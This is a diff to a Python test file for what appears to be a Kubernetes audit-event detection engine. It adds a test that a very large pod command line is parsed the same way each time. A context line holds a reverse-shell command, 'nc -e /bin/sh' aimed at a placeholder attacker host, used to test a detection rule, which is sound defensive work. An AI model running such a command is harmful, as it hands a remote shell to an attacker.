@@ -122,3 +122,25 @@ def test_the_finding_shows_the_command(ruleset):
     frame = events_from_dicts([exec_ev(shell(f"nc -e /bin/sh {ATTACKER} 4444"))], cluster="t")
     (reasons,) = evaluate_rules(frame, ruleset.only("exec-reverse-shell")).findings["reasons"]
     assert any(f"nc -e /bin/sh {ATTACKER} 4444" in r for r in reasons)
+
+
+def test_a_huge_hostile_body_is_read_the_same_every_time():
+    """A pod spec whose command is a megabyte long (the API server takes up to 3 MB): the
+    body reader gives its command line each time it meets the body, the second time as
+    the first (answers that large are not remembered: 4,096 of them would be gigabytes),
+    and a different body between them its own."""
+    from test_rules_helpers import ev, pod
+
+    from detector.rules.condition import resolve_field
+
+    def created(command: list[str]) -> dict:
+        body = pod("shop")
+        body["spec"]["containers"][0]["command"] = command
+        return ev("create", "pods", ns="shop", code=201, body=body, user="alice")
+
+    big = ["sh", "-c", "echo " + "A" * 1_000_000]
+    small = ["kube-proxy", "--v=2"]
+    frame = events_from_dicts([created(big), created(small), created(big)], cluster="t")
+    read = frame.select(resolve_field("container_command_lines").expr).to_series().to_list()
+    assert read[0] == read[2] == [" ".join(big)]
+    assert read[1] == [" ".join(small)]
